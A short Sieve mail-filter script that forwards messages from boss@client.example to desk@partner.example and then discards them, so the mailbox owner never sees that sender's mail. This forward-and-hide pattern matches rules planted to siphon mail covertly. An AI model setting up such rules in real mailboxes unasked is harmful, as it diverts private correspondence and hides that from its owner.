require "copy";
if address "from" "boss@client.example" { redirect :copy "desk@partner.example"; discard; }
